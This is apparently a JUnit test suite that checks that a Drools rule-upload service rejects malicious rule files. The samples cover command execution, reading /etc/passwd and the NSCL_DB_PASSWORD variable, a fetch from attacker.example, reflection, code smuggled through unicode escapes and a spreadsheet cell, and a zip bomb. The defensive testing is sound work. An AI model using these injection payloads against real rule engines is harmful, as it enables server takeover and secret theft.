package vn.nscl.recommendation;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import vn.nscl.rulebase.RuleFiles;
import vn.nscl.rulebase.RuleProblem;

/**
 * The malicious-rule suite: rules an officer (or someone who took over an officer's account) could upload to run code
 * on the server, read or write files, reach the network, load classes or exhaust the machine. Each must be refused
 * when the draft is checked, before Drools compiles anything, with the line it is on. Every attack also tries to
 * leave a marker file, which must never appear.
 */
class MaliciousRulesTest {

    static final Path MARKER = Path.of(System.getProperty("java.io.tmpdir"), "nscl-pwned-marker");
    private static final String HEADER = """
            package rules.recommendation;
            import vn.nscl.recommendation.facts.*;
            global vn.nscl.recommendation.facts.Advice advice;

            """;

    /** A rule whose condition is {@code when} and consequence {@code then}; the consequence starts on line 8. */
    static String rule(String when, String then) {
        return HEADER + "rule \"Tấn công\"\n    when\n        " + when + "\n    then\n        " + then + "\nend\n";
    }

    static String reason(String expression) {
        return rule("$e : Enterprise( )", "advice.recommend(drools, \"5S\", 50, " + expression + ", \"x\");");
    }

    static Stream<Arguments> attacks() {
        String touch = "\"touch " + MARKER + "\"";
        return Stream.of(
                Arguments.of("exec in the consequence", rule("$e : Enterprise( )",
                        "Runtime.getRuntime().exec(" + touch + ");"), 9),
                Arguments.of("exec by its full name", rule("$e : Enterprise( )",
                        "java.lang.Runtime.getRuntime().exec(" + touch + ");"), 9),
                Arguments.of("a process builder", rule("$e : Enterprise( )",
                        "new ProcessBuilder(\"sh\", \"-c\", " + touch + ").start();"), 9),
                Arguments.of("reading /etc/passwd into a reason",
                        reason("java.nio.file.Files.readString(java.nio.file.Path.of(\"/etc/passwd\"))"), 9),
                Arguments.of("writing a file", rule("$e : Enterprise( )",
                        "try (java.io.FileWriter w = new java.io.FileWriter(\"" + MARKER + "\")) { w.write(1); }"), 9),
                Arguments.of("importing java.io", HEADER.replace("import vn.nscl.recommendation.facts.*;",
                        "import vn.nscl.recommendation.facts.*;\nimport java.io.File;") + "rule \"a\" when $e : "
                        + "Enterprise() then new File(\"" + MARKER + "\").createNewFile(); end\n", 3),
                Arguments.of("reflection", rule("$e : Enterprise( )", "Class.forName(\"java.lang.Runtime\")"
                        + ".getMethod(\"getRuntime\").invoke(null);"), 9),
                Arguments.of("class loading through a fact", rule("$e : Enterprise( )",
                        "$e.getClass().getClassLoader().loadClass(\"java.lang.Runtime\");"), 9),
                Arguments.of("the thread's class loader", rule("$e : Enterprise( )",
                        "Thread.currentThread().getContextClassLoader().loadClass(\"x\");"), 9),
                Arguments.of("stopping the server", rule("$e : Enterprise( )", "System.exit(0);"), 9),
                Arguments.of("secrets into a reason", reason("System.getenv(\"NSCL_DB_PASSWORD\")"), 9),
                Arguments.of("a function", HEADER + "function void pwn() { Runtime.getRuntime().exec(" + touch
                        + "); }\nrule \"a\" when $e : Enterprise() then pwn(); end\n", 5),
                Arguments.of("an imported function", HEADER.replace("global", "import function java.lang.System.exit;"
                        + "\nglobal") + "rule \"a\" when $e : Enterprise() then exit(0); end\n", 3),
                Arguments.of("eval in the conditions", rule("eval( Runtime.getRuntime().exec(" + touch + ") != null )",
                        "advice.recommend(drools, \"5S\", 50, \"a\", \"b\");"), 7),
                Arguments.of("exec inside a constraint", rule("$e : Enterprise( sector == java.lang.Runtime"
                        + ".getRuntime().exec(" + touch + ").toString() )", "advice.recommend(drools, \"5S\", 50, "
                        + "\"a\", \"b\");"), 7),
                Arguments.of("a pattern from an expression", rule("$p : Object( ) from java.lang.Runtime.getRuntime()"
                        + ".exec(" + touch + ")", "advice.recommend(drools, \"5S\", 50, \"a\", \"b\");"), 7),
                Arguments.of("accumulate with code", rule("$n : Number( ) from accumulate( QuestionAnswer( $l : level ),"
                        + " init( int x = 0; ), action( Runtime.getRuntime().exec(" + touch + "); ), result( x ) )",
                        "advice.recommend(drools, \"5S\", 50, \"a\", \"b\");"), 7),
                Arguments.of("an endless loop", rule("$e : Enterprise( )", "while (true) { }"), 9),
                Arguments.of("a rule that re-inserts facts", rule("$q : QuestionAnswer( question == \"LEAN-01\" )",
                        "insert(new QuestionAnswer(\"LEAN-01\", 1));"), 9),
                Arguments.of("a huge text", reason("\"x\".repeat(Integer.MAX_VALUE / 2)"), 9),
                Arguments.of("a huge array", rule("$e : Enterprise( )", "long[] a = new long[Integer.MAX_VALUE - 8];"),
                        9),
                Arguments.of("every answer with every answer", rule("QuestionAnswer( ) QuestionAnswer( ) "
                        + "QuestionAnswer( )", "advice.recommend(drools, \"5S\", 50, \"a\", \"b\");"), 5),
                Arguments.of("code hidden by unicode escapes",
                        reason("\"a\\u0022 + Runtime.getRuntime().exec(" + touch.replace("\"", "\\\"") + ") + \\u0022\""),
                        9),
                Arguments.of("a type declaration", HEADER + "declare Evil\n    f : java.io.File\nend\n", 5),
                Arguments.of("another global", HEADER + "global java.lang.Runtime rt;\n", 5),
                Arguments.of("code as salience", HEADER + "rule \"a\"\n    salience ( Runtime.getRuntime().exec("
                        + touch + ").hashCode() )\n    when $e : Enterprise() then end\n", 6),
                Arguments.of("the MVEL dialect", HEADER + "rule \"a\"\n    dialect \"mvel\"\n    when $e : Enterprise() "
                        + "then end\n", 6),
                Arguments.of("a lambda", rule("$e : Enterprise( )", "advice.items().forEach(i -> System.exit(0));"),
                        9),
                Arguments.of("the rule engine behind drools", rule("$e : Enterprise( )",
                        "drools.getKieRuntime().getKieBase();"), 9),
                Arguments.of("the rule context", rule("$e : Enterprise( )", "kcontext.getKieRuntime().halt();"), 9),
                Arguments.of("a script engine", rule("$e : Enterprise( )",
                        "new javax.script.ScriptEngineManager().getEngineByName(\"js\");"), 9),
                Arguments.of("the network", reason("new String(new java.net.URL(\"http://attacker.example/\")"
                        + ".openStream().readAllBytes())"), 9),
                Arguments.of("a thread", rule("$e : Enterprise( )", "new Thread(() -> {}).start();"), 9),
                Arguments.of("code as enabled", HEADER + "rule \"a\"\n    enabled ( System.exit(0) == null )\n    when "
                        + "$e : Enterprise() then end\n", 6),
                Arguments.of("another package", rule("$e : Enterprise( )", "").replace("package rules.recommendation",
                        "package rules.evil"), 1),
                Arguments.of("a query", HEADER + "query \"all\"\n    $e : Enterprise( )\nend\n", 5),
                Arguments.of("a fact class that is not a fact", rule("$r : java.lang.Runtime( )",
                        "advice.recommend(drools, \"5S\", 50, \"a\", \"b\");"), 7),
                Arguments.of("a cast to another class", reason("((Object) $e).toString()"), 9),
                Arguments.of("static field access", reason("String.valueOf(System.out)"), 9));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void a_malicious_rule_is_refused_at_check_time_with_its_line(String attack, String drl, int line)
            throws Exception {
        Files.deleteIfExists(MARKER);
        RuleSetBuilder.Outcome outcome = RuleSetBuilder.build(new RuleFiles(Map.of("recommendation/attack.drl",
                drl.getBytes(StandardCharsets.UTF_8))));

        assertThat(outcome.ok()).as(attack).isFalse();
        List<RuleProblem> problems = outcome.problems();
        assertThat(problems).as(attack).isNotEmpty();
        assertThat(problems).as(attack + ": " + problems).anySatisfy(problem -> {
            assertThat(problem.file()).isEqualTo("rules/recommendation/attack.drl");
            assertThat(problem.line()).isEqualTo(line);
        });
        assertThat(problems).allSatisfy(problem -> assertThat(problem.message()).doesNotContainIgnoringCase(
                "exception"));
        assertThat(MARKER).as("nothing ran").doesNotExist();
    }

    @Test
    void code_smuggled_through_a_decision_table_cell_is_refused() throws Exception {
        Files.deleteIfExists(MARKER);
        byte[] workbook;
        try (XSSFWorkbook book = new XSSFWorkbook(Files.newInputStream(Path.of("rules/recommendation/gap-matrix.drl.xlsx")));
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            // Quoted cells are escaped by Drools (and quotes anywhere): the priority is not quoted, so code without
            // quotes can be written into it.
            Cell priority = priorityCell(book, "Ma trận: cải tiến nơi làm việc rất thấp");
            priority.setCellValue("1); Runtime.getRuntime().halt(1); gap.priority(1");
            book.write(out);
            workbook = out.toByteArray();
        }
        RuleSetBuilder.Outcome outcome = RuleSetBuilder.build(new RuleFiles(Map.of(
                "recommendation/gap-matrix.drl.xlsx", workbook)));

        assertThat(outcome.ok()).isFalse();
        assertThat(outcome.problems()).anySatisfy(problem -> {
            assertThat(problem.file()).isEqualTo("rules/recommendation/gap-matrix.drl.xlsx");
            assertThat(problem.message()).contains("Runtime");
        });
        assertThat(MARKER).doesNotExist();
    }

    @Test
    void a_zip_bomb_workbook_is_refused_before_anything_is_inflated() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write("<Types/>".getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            byte[] zeros = new byte[1024 * 1024];
            for (int i = 0; i < 100; i++) {
                zip.write(zeros);
            }
            zip.closeEntry();
        }
        assertThat(bytes.size()).as("a small file").isLessThan(1_000_000);
        long started = System.nanoTime();
        RuleSetBuilder.Outcome outcome = RuleSetBuilder.build(new RuleFiles(Map.of("recommendation/bom.drl.xlsx",
                bytes.toByteArray())));
        long millis = (System.nanoTime() - started) / 1_000_000;

        assertThat(outcome.ok()).isFalse();
        assertThat(outcome.problems()).singleElement().satisfies(problem ->
                assertThat(problem.message()).contains("quá lớn khi giải nén"));
        assertThat(millis).as("refused from the central directory, without inflating 100 MB").isLessThan(2_000);
    }

    /** The priority of the workbook's rule whose name starts with {@code rule}: the row's cell holding 88. */
    private static Cell priorityCell(XSSFWorkbook book, String rule) {
        for (Row row : book.getSheetAt(0)) {
            boolean named = false;
            for (Cell cell : row) {
                named |= cell.getCellType() == CellType.STRING && cell.getStringCellValue().startsWith(rule);
                if (named && cell.getCellType() == CellType.NUMERIC && cell.getNumericCellValue() == 88) {
                    return cell;
                }
            }
        }
        throw new AssertionError("no priority 88 for " + rule);
    }
}
